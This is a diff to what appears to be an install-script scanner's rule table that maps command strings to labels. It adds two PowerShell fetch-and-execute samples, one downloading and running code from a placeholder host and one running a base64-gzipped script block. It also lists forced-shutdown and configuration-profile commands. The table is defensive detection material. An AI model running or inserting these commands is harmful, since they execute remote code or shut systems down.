@@ -109,6 +109,12 @@ def rules(art: Artifact) -> set[str]:
     ("shutdown /s /f /t 0", "install-script/system-shutdown"),
     ("sudo -n shutdown -h now || systemctl poweroff -i", "install-script/system-shutdown"),
     ("powershell -c \"Stop-Computer -Force\"", "install-script/system-shutdown"),
+    # blind set 49's winget configuration: fetched text made a script block and run as a job; the same gzipped in base64
+    ("powershell -c \"$s=(New-Object Net.WebClient).DownloadString('https://boot.devsetup.invalid/w'); "
+     "Start-Job -ScriptBlock ([scriptblock]::Create($s))\"", "install-script/fetch-and-execute"),
+    ("powershell -c \"$g=[IO.Compression.GzipStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String("
+     "'H4sIAAAAAAACAwXBoQ6AIBAA0F8xsAFB6DqTZgwGM8hNzzFgcoKf73usTMJA61d3w0GdAVI7uDkgRJJqSS2GZP1GD8ZT8Isol0FrlxIpD7UAvVlhrDag143LEeHrWPkBN/ydo1YAAAA=')),0); . ([scriptblock]::Create([IO.StreamReader]::new($g).ReadToEnd()))\"",
+     "install-script/fetch-and-execute"),
     ("osascript -e 'tell app \"System Events\" to shut down'", "install-script/system-shutdown"),
     ("profiles install -type configuration -path ./assets/defaults.mobileconfig", "install-script/config-profile"),
     ("open ./assets/search.mobileconfig", "install-script/config-profile"),
